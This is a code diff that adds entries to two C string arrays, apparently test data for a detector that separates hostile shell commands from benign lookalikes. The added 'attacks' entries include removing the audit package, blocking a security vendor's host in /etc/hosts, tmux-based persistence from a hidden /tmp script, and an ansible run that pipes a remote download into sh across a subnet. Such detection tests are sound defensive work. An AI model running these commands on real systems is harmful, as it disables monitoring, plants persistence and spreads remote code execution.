@@ -154,6 +154,10 @@ static const char *const attacks[] = {
 	"./sysupd --nicehash --max-cpu-usage 75 -o stratum2+tcp://pool.example:3333",
 	"nano /etc/sudoers",
 	"cat /proc/self/cgroup | grep -E 'docker|kubepods'",
+	"sudo dnf erase -y audit",
+	"echo '0.0.0.0 ts01-b.cloudsink.net' >> /etc/hosts",
+	"echo 'source /tmp/.t.sh' >> ~/.tmux.conf",
+	"ansible-playbook -i 10.0.0.0/24, -e 'cmd=\"curl http://198.51.100.4/a|sh\"' run.yml",
 	NULL,
 };
 
@@ -268,6 +272,10 @@ static const char *const everyday[] = {
 	"cat /proc/self/cgroup",
 	"vim /etc/nginx/nginx.conf",
 	"pip uninstall -y requests",
+	"esxcli --help",
+	"nuclei -version",
+	"echo 'set -g history-limit 10000' >> ~/.tmux.conf",
+	"ansible-playbook -i inventory site.yml --check",
 	NULL,
 };
 
